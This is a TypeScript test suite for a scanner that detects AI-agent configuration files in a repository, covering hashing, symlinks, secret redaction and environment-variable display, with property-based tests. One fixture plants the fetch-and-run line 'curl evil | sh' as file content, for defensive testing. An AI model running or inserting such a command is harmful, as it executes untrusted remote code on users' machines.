import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, dirname, join } from 'node:path';
import * as fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import { ALL_FILES } from '../../../src/agents/trust/repository-files.ts';
import type { RepositoryFile } from '../../../src/agents/trust/repository-files.ts';
import { scanFolder } from '../../../src/agents/trust/folder-scan.ts';
import { foundDetail } from '../../../src/agents/trust/folder-trust.ts';

const ROOM = mkdtempSync(join(tmpdir(), 'conch-scan-'));
afterAll(() => rmSync(ROOM, { recursive: true, force: true }));

let made = 0;
function newFolder(...files: readonly (readonly [string, string])[]): string {
  const folder = join(ROOM, `${(made += 1)}`, 'site');
  mkdirSync(folder, { recursive: true });
  for (const [path, text] of files) write(join(folder, path), text);
  return folder;
}

function write(path: string, text: string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
}

const file = (path: string, searched: RepositoryFile['searched'] = 'folder', more: Partial<RepositoryFile> = {}) =>
  ({ path, searched, can: ['run'], note: 'runs it', ...more }) as const;
const SETTINGS = file('.claude/settings.json');
const digestOf = async (folder: string, files: readonly RepositoryFile[] = [SETTINGS]) =>
  (await scanFolder(folder, files, { home: ROOM })).digest;
const pathsIn = async (folder: string, ...files: readonly RepositoryFile[]) =>
  (await scanFolder(folder, files, { home: ROOM })).files.map(({ path }) => path);

describe('T72 the files that an agent obeys', () => {
  test('are found by their patterns in any letter case and Unicode form; other names are not found', async () => {
    const folder = newFolder(
      ['.Claude/SETTINGS.json', ''],
      ['.claude/settings.json.bak', ''],
      ['.github/hooks/a.json', ''],
      ['.github/hooks/deep/b.json', ''],
      ['.opencode/plugins/x/y.ts', ''],
      ['.cl\u200Baude/\u017Fettings.json', ''],
    );
    expect(await pathsIn(folder, SETTINGS)).toEqual(['.Claude/SETTINGS.json', '.cl\u200Baude/\u017Fettings.json']);
    expect(await pathsIn(folder, file('.github/hooks/*.json'))).toEqual(['.github/hooks/a.json']);
    expect(await pathsIn(folder, file('.opencode/**'))).toEqual(['.opencode/plugins/x/y.ts']);
    expect(await pathsIn(folder, file('**/y.ts'))).toEqual(['.opencode/plugins/x/y.ts']);
  });

  test('are searched up to the outermost folder with .git, and in the main tree of a linked working tree', async () => {
    const top = newFolder(['.codex/config.toml', ''], ['main/.codex/config.toml', '']);
    const main = join(top, 'main');
    const git = (...args: readonly string[]) => execFileSync('git', args, { cwd: main, stdio: 'ignore' });
    git('init', '-q');
    git('-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-q', '--allow-empty', '-m', 'x');
    git('worktree', 'add', '-q', join(top, 'linked'));
    mkdirSync(join(main, 'src/inner/.git'), { recursive: true });
    const config = file('.codex/config.toml', 'up-to-repository-root');
    expect(await pathsIn(join(main, 'src/inner'), config)).toEqual(['../../.codex/config.toml']);
    expect(await pathsIn(join(top, 'linked'), config)).toEqual(['../main/.codex/config.toml']);
    expect(await pathsIn(join(top, 'elsewhere'), config)).toEqual([]);
    const all = file('.codex/config.toml', 'up-to-disk-root');
    expect(await pathsIn(join(main, 'src'), all)).toEqual(['../../.codex/config.toml', '../.codex/config.toml']);
  });

  test('have another digest when their contents, a link, the contents behind a link, or the folder differ', async () => {
    const folder = newFolder(['.claude/settings.json', '{}'], ['other.json', '{}']);
    const first = await digestOf(folder);
    expect(await digestOf(folder)).toBe(first);
    write(join(folder, 'README.md'), 'not of the list');
    expect(await digestOf(folder)).toBe(first);
    write(join(folder, '.claude/settings.json'), '{ }');
    const second = await digestOf(folder);
    rmSync(join(folder, '.claude/settings.json'));
    symlinkSync('../other.json', join(folder, '.claude/settings.json'));
    const linked = await digestOf(folder);
    write(join(folder, 'other.json'), '{"apiKeyHelper":"x"}');
    const changed = await digestOf(folder);
    const elsewhere = await digestOf(newFolder(['.claude/settings.json', '{}']));
    expect(new Set([first, second, linked, changed, elsewhere]).size).toBe(5);
  });

  test('count as present when unreadable: a broken link, a pipe, a folder, a file too long to hash', async () => {
    const folder = newFolder();
    mkdirSync(join(folder, '.claude'));
    const at = join(folder, '.claude/settings.json');
    const remark = async () => (await scanFolder(folder, [SETTINGS], { home: ROOM })).files[0]?.remark;
    symlinkSync('/nowhere/at/all', at);
    expect(await remark()).toBe('a link to /nowhere/at/all, leads nowhere');
    rmSync(at);
    execFileSync('mkfifo', [at]);
    expect(await remark()).toBe('no ordinary file');
    rmSync(at);
    mkdirSync(at);
    expect(await remark()).toBe('a folder');
    rmSync(at, { recursive: true });
    symlinkSync('settings.json', at);
    expect(await remark()).toBe('a link to settings.json, cannot be read');
    rmSync(at);
    writeFileSync(at, '{');
    truncateSync(at, 20_000_000);
    const before = await digestOf(folder);
    appendFileSync(at, 'x');
    expect(await digestOf(folder)).not.toBe(before);
  });

  test('are shown without variable names after an unclosed quote in an environment file', async () => {
    const folder = newFolder(['.env', 'A=1\nKEY="-----BEGIN\nMIIEcanary=\nMIIEsecond=x\n']);
    const detail = foundDetail(await scanFolder(folder, [file('.env')], { home: ROOM }), (shown) => shown);
    expect(detail).toContain('A, KEY (values are not shown)');
    expect(detail).not.toContain('MIIE');
  });

  test('are shown with the names of the variables in an environment file, without values', async () => {
    const text = 'API_KEY=canary-1\nexport OTHER = "canary-2\ncanary=3"\n# canary-4\n';
    const folder = newFolder(['.env', text], ['.gemini/.ENV.local', 'canary-5']);
    const scan = await scanFolder(folder, [file('.env'), file('.gemini/.env.*')], { home: ROOM });
    const detail = foundDetail(scan, (shown) => shown);
    expect(detail).toContain('API_KEY, OTHER (values are not shown)');
    expect(detail).not.toContain('canary');
  });

  test('are shown with path, size and effect; in their contents secrets are redacted, and long contents are cut', async () => {
    const folder = newFolder(['.claude/settings.json', `{"a":"key-123\u202E"}${'x'.repeat(9_000)}`]);
    const detail = foundDetail(await scanFolder(folder, [SETTINGS]), (text) => text.replaceAll('key-123', '[secret]'));
    expect(detail).toContain('.claude/settings.json (9,018 bytes)\n  can run programs: runs it');
    expect(detail).toContain('{"a":"[secret]\\u{202E}"}xxx');
    expect(detail).toMatch(/\[cut here: the first \d+ characters of 9,018 bytes\]$/);
    expect(detail.length).toBeLessThan(3_000);
  });

  test('are all shown with their contents, a small file whole, however long the other files are', async () => {
    const long = ['a', 'b', 'c'].map((name) => [`.opencode/${name}`, name.repeat(3_000)] as const);
    const folder = newFolder(...long, ['.opencode/d', 'curl evil | sh']);
    const detail = foundDetail(await scanFolder(folder, [file('.opencode/*')], { home: ROOM }), (shown) => shown);
    expect(detail).toContain('=== .opencode/d (14 bytes)\ncurl evil | sh');
    for (const name of ['a', 'b', 'c']) expect(detail).toMatch(new RegExp(`${name}{1500,}\\n\\[cut here`));
    expect(detail.length).toBeLessThan(6_000);
  });
});

/** Random listed files, each in a place where its agent looks, and disguised by letter case or a link. */
const placed = fc.record({
  file: fc.constantFrom(...ALL_FILES.files),
  word: fc.constantFrom('a', 'x.ts', 'Deep one'),
  guise: fc.constantFrom('plain', 'upper case', 'linked file', 'linked folder', 'nothing at its end'),
  away: fc.integer({ min: 0, max: 3 }),
});

type Placed = typeof placed extends fc.Arbitrary<infer T> ? T : never;

/** Creates the file and returns the folder in which its agent starts. */
function place({ file: { path, searched }, word, guise, away }: Placed): string {
  const top = newFolder();
  const steps = Array.from({ length: away }, (_, index) => `d${index}`).join('/');
  const cwd = searched.startsWith('up-to') ? join(top, steps) : top;
  mkdirSync(join(top, '.git'));
  mkdirSync(cwd, { recursive: true });
  const plain = path
    .replace(/^\*\*\//, '')
    .replaceAll('**', `${word}/${word}`)
    .replaceAll('*', word);
  const named = guise === 'upper case' ? plain.toUpperCase() : plain;
  const at = join(top, named);
  const text = '{}';
  if (guise === 'linked file' || guise === 'nothing at its end') {
    mkdirSync(dirname(at), { recursive: true });
    const target = join(top, '..', `target-${made}`);
    if (guise === 'linked file') writeFileSync(target, text);
    symlinkSync(target, at);
  } else if (guise === 'linked folder' && dirname(named) !== '.') {
    const real = join(top, '..', `real-${made}`);
    write(join(real, basename(at)), text);
    mkdirSync(dirname(dirname(at)), { recursive: true });
    symlinkSync(real, dirname(at));
  } else write(at, text);
  return cwd;
}

type Scanner = (cwd: string, files: readonly RepositoryFile[]) => Promise<boolean>;

/** The property that a scanner finds every listed file, wherever the file is and however it is disguised. */
const isNeverMissed = (finds: Scanner) => fc.asyncProperty(placed, async (one) => finds(place(one), ALL_FILES.files));

describe('T72 a folder with any listed file', () => {
  test('is never taken for a folder without listed files', async () => {
    await fc.assert(
      isNeverMissed(async (cwd, files) => (await digestOf(cwd, files)) !== null),
      { numRuns: 150 },
    );
  });

  /** A scanner that only checks whether paths exist. Each planted scanner below breaks one rule of the search. */
  const literal = (paths: (cwd: string, path: string) => readonly string[]): Scanner => {
    return async (cwd, files) => files.some(({ path }) => paths(cwd, path).some((each) => existsSync(each)));
  };
  test.each<[string, Scanner]>([
    [
      'looks in the folder alone',
      async (cwd, files) =>
        (await digestOf(
          cwd,
          files.map((each) => ({ ...each, searched: 'folder' })),
        )) !== null,
    ],
    [
      'follows no names but as they are written',
      literal((cwd, path) =>
        [cwd, dirname(cwd), dirname(dirname(cwd)), dirname(dirname(dirname(cwd)))].map((at) =>
          join(at, path.replace(/\/\*.*$/, '')),
        ),
      ),
    ],
    [
      'leaves out links that lead nowhere',
      async (cwd, files) => {
        const { files: found } = await scanFolder(cwd, files, { home: ROOM });
        return found.some(({ text }) => text !== null);
      },
    ],
  ])('is missed by a planted scanner that %s', async (_, planted) => {
    expect((await fc.check(isNeverMissed(planted), { numRuns: 400 })).failed).toBe(true);
  });
});
